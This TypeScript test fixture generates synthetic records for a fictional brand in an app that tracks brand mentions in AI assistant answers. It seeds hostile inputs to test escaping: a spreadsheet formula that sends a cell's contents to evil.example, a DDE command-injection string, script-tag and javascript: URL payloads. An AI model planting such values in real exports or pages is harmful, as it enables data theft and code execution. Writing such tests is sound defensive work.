import { hardId, hardNames, hostileAnswers, ofLength } from './hard-texts.ts'

const brandId = 'hard'

/** Properties of the brand `hard` for tests. Days are counted back from `now`. */
export const hard = {
  brandId,
  /** Number of days, including today. */
  days: 56,
  /** Days without runs. */
  missing: [12, 10],
  /** A measured day between them. */
  lone: 11,
  /** Days on which every run of the assistant failed. */
  down: { provider: 'perplexity', days: [25, 24, 23, 22, 21] },
  /** The assistant changes its model on this day. */
  newModel: { provider: 'chatgpt', day: 8, before: 'gpt-5', model: 'gpt-5.1' },
  /** Day with answers that mention no entity. */
  unmentioned: 6,
  /** Day with answers that mention competitors but not the brand. */
  unnamed: 15,
  /** Assistant with answers in which no mention has a sentiment. */
  unscored: 'google-ai-overview',
  /** Topic with answers that mention neither the brand nor a competitor. */
  emptyTopic: 't-none',
  /** ID with characters that URLs must encode. */
  topicId: hardId('t'),
  tagId: hardId('tag'),
  competitorId: hardId('r'),
  sourceId: hardId('s'),
  promptId: hardId('p'),
  /** Prompts with exactly one answer and with none. */
  once: 'p-once',
  never: 'p-never',
} as const

const providers = ['chatgpt', 'claude', 'perplexity', 'google-ai-overview'] as const
const models = { claude: 'claude-opus-4-5', perplexity: 'sonar', 'google-ai-overview': 'google-ai-overview' }

const rivals = [
  [hard.competitorId, hardNames.han],
  ['r-arabic', hardNames.arabic],
  ['r-emoji', hardNames.emoji],
  ['r-long', hardNames.long],
  ['r-unbroken', hardNames.unbroken],
  ['r-markup', hardNames.markup],
] as const

/** Prompts asked every day on every assistant: ID, text, topic. */
const daily = [
  [hard.promptId, 'What is 100 %41 of 日本 / and of the rest?', hard.topicId],
  ['p-formula', '=HYPERLINK("https://evil.example/?"&A1;"Which shoes?")', 't-markup'],
  ['p-long', ofLength(300, 'Which of all these running shoes, and why? '), 't-long'],
  ['p-arabic', 'ما هي أفضل أحذية الجري؟', 't-arabic'],
  ['p-emoji', '🏃‍♀️ + 👟 = ❓', 't-emoji'],
  ['p-none', 'How long does rubber last?', hard.emptyTopic],
] as const

const ofBrand = (kind: string, id: string, more: object) => ({ kind, id, brandId, ...more })

const market = (createdAt: string): object[] => [
  ...[hard.tagId, 'tag-unbroken'].map(id =>
    ofBrand('tag', id, { name: id === hard.tagId ? hardNames.emoji : hardNames.unbroken }),
  ),
  ...[
    [hard.topicId, hardNames.han],
    ['t-arabic', hardNames.arabic],
    ['t-emoji', hardNames.emoji],
    ['t-long', hardNames.long],
    ['t-markup', hardNames.markup],
    ['t-unbroken', hardNames.unbroken],
    [hard.emptyTopic, 'Nobody is named'],
  ].map(([id, name]) => ofBrand('topic', id!, { name })),
  ofBrand('competitor', 'self', { name: 'Acme Hard', domain: 'hard.example', relationship: 'SELF' }),
  ...rivals.map(([id, name], place) =>
    ofBrand('competitor', id, { name, domain: place < 4 ? `rival-${place}.example` : '', relationship: 'DIRECT' }),
  ),
  ofBrand('competitor', 'r-indirect', { name: 'Sideways', domain: 'sideways.example', relationship: 'INDIRECT' }),
  ofBrand('source', hard.sourceId, { domain: 'odd.example', type: 'MEDIA' }),
  ...[
    ...daily,
    [hard.once, 'What is asked once?', null],
    [hard.never, "=cmd|' /C calc'!A0", null],
    ['p-hostile', '<script>alert(1)</script>', 't-markup'],
  ].map(([id, text, topicId], place) =>
    ofBrand('prompt', id!, {
      ...{ text, topicId, tagIds: place % 2 === 0 ? [hard.tagId] : ['tag-unbroken'], createdAt },
      type: (['TOFU', 'MOFU', 'BOFU'] as const)[place % 3],
    }),
  ),
]

/** Entities that an answer mentions, in order. In the last 28 days, the brand is three times as likely. */
function namedIn(ago: number, luck: number): string[] {
  const others = rivals.flatMap(([id], place) => ((luck + place * 2) % 5 === 0 ? [id] : []))
  if (luck % 11 === 0) others.push('r-indirect')
  if (ago !== hard.unnamed && luck % 5 < (ago < 28 ? 3 : 1)) others.splice(luck % 3, 0, 'self')
  return others
}

const nameOf = (id: string) =>
  id === 'self' ? 'Acme Hard' : (rivals.find(([rival]) => rival === id)?.[1] ?? 'Sideways')

const citedIn = (luck: number): object[] => [
  ...(luck % 4 === 0 ? [{ url: `https://hard.example/pages/${luck % 7}`, title: hardNames.arabic }] : []),
  ...(luck % 3 === 0 ? [{ url: 'https://rival-0.example/%41/日本?a=b#c', title: hardNames.markup }] : []),
  ...(luck % 5 === 0 ? [{ url: `https://odd.example/${ofLength(300, 'path/')}`, title: hardNames.unbroken }] : []),
  ...(luck % 6 === 0
    ? [{ url: 'https://www.reddit.com/r/hard/comments/1/x/', social: { communityName: 'r/hard' } }]
    : []),
  ...(luck % 9 === 0
    ? [{ url: 'javascript:alert(1)', domain: 'evil.example', title: '<script>alert(1)</script>' }]
    : []),
]

const placementOf = (id: string) => ({
  id: `${id} ad`,
  ...{ advertiserName: hardNames.markup, productName: hardNames.unbroken, description: '=1+1', position: 1 },
  ...{ advertiserLogo: 'javascript:alert(1)', imageUrl: 'https://evil.example/p.png' },
})

/** Runs of a day, their results, and their counts. */
function* dayOf(ago: number, start: number, length: number): Generator<object> {
  const date = new Date(start).toISOString().slice(0, 10)
  for (const [place, provider] of providers.entries()) {
    const isDown = provider === hard.down.provider && (hard.down.days as readonly number[]).includes(ago)
    const { day, before, model: newer } = hard.newModel
    const model = provider === hard.newModel.provider ? (ago <= day ? newer : before) : models[provider]
    for (const [nth, [promptId, text]] of daily.entries()) {
      const luck = ago * 7 + place * 3 + nth * 5
      const id = `${date} ${promptId} ${provider}`
      const at = new Date(start + Math.floor(((place * daily.length + nth) * length) / 24)).toISOString()
      const ended = isDown
        ? { outcome: 'failed', reason: 'unavailable', message: 'The service is <b>down</b>.', attempts: 3 }
        : { outcome: 'answered', attempts: 1 }
      yield ofBrand('ask', id, { promptId, provider, model, plannedAt: date, endedAt: at, ...ended })
      if (isDown) continue
      const named = ago === hard.unmentioned || promptId === 'p-none' ? [] : namedIn(ago, luck)
      yield ofBrand('answer', id, {
        ...{ promptId, provider, model, createdAt: at, text: `${text}\n\n${named.map(nameOf).join(', ')}.` },
        mentions: named.map((competitorId, index) => ({
          ...{ competitorId, position: index + 1 },
          sentiment: provider === hard.unscored ? null : 20 + ((luck * 13 + index) % 70),
        })),
        citations: citedIn(luck),
        searches: provider === 'chatgpt' ? [{ query: ['=1+1', hardNames.arabic, hardNames.unbroken][luck % 3] }] : [],
        sponsored: luck % 17 === 0 ? [placementOf(id)] : [],
      })
    }
    const counts = { planned: daily.length, [isDown ? 'failed' : 'answered']: daily.length }
    yield { kind: 'coverage', brandId, date, provider, ...counts }
  }
}

/** Imported answers without runs: the hostile ones, and the only answer of its prompt. */
function broughtAlong(daysAgo: (ago: number) => string): object[] {
  const brought = (id: string, promptId: string, ago: number, text: string) =>
    ofBrand('answer', id, {
      ...{ promptId, provider: 'chatgpt', model: hard.newModel.model, createdAt: daysAgo(ago), text },
      ...{ mentions: [{ competitorId: 'self', position: 1, sentiment: 50 }], citations: [] },
    })
  return [
    brought('once', hard.once, 2, 'Acme Hard, once.'),
    ...Object.entries(hostileAnswers).map(([id, text]) => brought(id, 'p-hostile', 3, text)),
  ]
}

/** Articles and notes with hostile content. */
const written = (createdAt: string): object[] => [
  ofBrand('article', hardId('article'), {
    ...{
      title: hardNames.markup,
      slug: 'hard',
      articleType: 'LISTICLE',
      status: 'LIVE',
      createdAt,
      updatedAt: createdAt,
    },
    content: Object.values(hostileAnswers).slice(0, 8).join('\n\n'),
  }),
  ofBrand('note', hardId('note'), { text: hardNames.markup, at: createdAt, createdAt }),
]

/** Records of the brand `hard`: its entities, and its runs and answers until `now`. */
export function* hardBrand(teamId: string, now: Date): Generator<object> {
  const dayLength = 86_400_000
  const today = Math.floor(now.getTime() / dayLength) * dayLength
  const startOf = (ago: number) => today - ago * dayLength
  const daysAgo = (ago: number) => new Date(startOf(ago) + dayLength / 2).toISOString()
  const createdAt = daysAgo(hard.days + 10)
  yield { kind: 'brand', id: brandId, teamId, name: 'Acme Hard', domain: 'hard.example', createdAt }
  yield* market(createdAt)
  for (let ago = hard.days - 1; ago >= 0; ago--)
    if (!(hard.missing as readonly number[]).includes(ago))
      yield* dayOf(ago, startOf(ago), Math.min(dayLength, now.getTime() - startOf(ago)))
  yield* broughtAlong(daysAgo)
  yield* written(daysAgo(5))
}
